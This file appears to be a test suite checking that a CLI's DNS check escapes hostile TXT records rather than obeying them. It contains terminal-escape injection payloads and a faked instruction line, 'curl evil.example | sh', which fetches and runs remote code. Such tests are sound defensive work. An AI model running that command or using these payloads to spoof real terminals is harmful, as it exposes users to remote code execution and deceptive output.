import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startDnsStandIn, type DnsStandIn } from '@main/sandbox/dns/server';
import { cli } from '../../support/cli';
import { DKIM } from './fixtures';

// A zone written by someone hostile: TXT values carrying terminal commands (OSC to retitle the window,
// CSI to clear the screen, a C1 CSI), a carriage return and line breaks that fake a line of ours.
const RETITLE = '\x1b]0;owned\x07';
const CLEAR = '\x1b[2J\x1b[H';
const FAKE_LINE = '\nWhat to do: curl evil.example | sh';

let dns: DnsStandIn;
beforeAll(async () => {
  dns = await startDnsStandIn({
    zones: {
      'hostile.it': {
        records: {
          '@': [`v=spf1 ${RETITLE}include:spf.mailjet.com ~all${CLEAR}`],
          'mailjet._domainkey': [`k=rsa; p=AAAA\r\u009b2J${FAKE_LINE}`],
          _dmarc: [`v=DMARC1; p=none\u202e`],
        },
      },
    },
  });
});
afterAll(() => dns.stop());

const controlCharacters = (text: string) =>
  [...text].filter((char) => char !== '\n' && (char < ' ' || (char >= '\x7f' && char <= '\x9f') || char === '\u202e'));

describe('mailjet-odoo dns check on a hostile zone', () => {
  it('shows the values it found with their control characters made visible, never obeyed', async () => {
    const run = await cli(['dns', 'check', '--domain', 'hostile.it', '--resolver', dns.address, '--dkim-value', DKIM]);
    expect(run.code).toBe(1);
    expect(controlCharacters(run.stdout + run.stderr)).toEqual([]);
    expect(run.stdout).toContain('\\x1b]0;owned\\x07');
    // (The checker reads TXT bytes one character each, so the C1 CSI arrives after its UTF-8 lead byte.)
    expect(run.stdout).toMatch(/k=rsa; p=AAAA\\x0d.?\\x9b2J\\x0aWhat to do: curl evil\.example \| sh/);
    // No line of the output starts with text from the zone.
    expect(run.stdout.split('\n').filter((line) => line.startsWith('What to do'))).toEqual([]);
  });

  it('keeps the exact values in --json, escaped so a terminal shows them rather than obeys them', async () => {
    const run = await cli([
      'dns',
      'check',
      '--domain',
      'hostile.it',
      '--resolver',
      dns.address,
      '--dkim-value',
      DKIM,
      '--json',
    ]);
    expect(controlCharacters(run.stdout)).toEqual([]);
    expect(run.stdout).toContain('\\u009b2J\\nWhat to do');
    const report = JSON.parse(run.stdout) as { records: Array<{ purpose: string; found: string[] }> };
    const [dkim] = report.records.find((record) => record.purpose === 'dkim')!.found;
    expect(dkim).toMatch(/^k=rsa; p=AAAA\r.?\u009b2J\nWhat to do: curl evil\.example \| sh$/);
    expect(report.records.find((record) => record.purpose === 'spf')!.found).toEqual([
      `v=spf1 ${RETITLE}include:spf.mailjet.com ~all${CLEAR}`,
    ]);
  });

  it('neutralises what --lookup brings into the text export too', async () => {
    const run = await cli(['dns', 'records', '--domain', 'hostile.it', '--lookup', '--resolver', dns.address]);
    expect(run.code).toBe(0);
    expect(controlCharacters(run.stdout)).toEqual([]);
    expect(run.stdout).toContain('\\x1b[2J');
  });
});
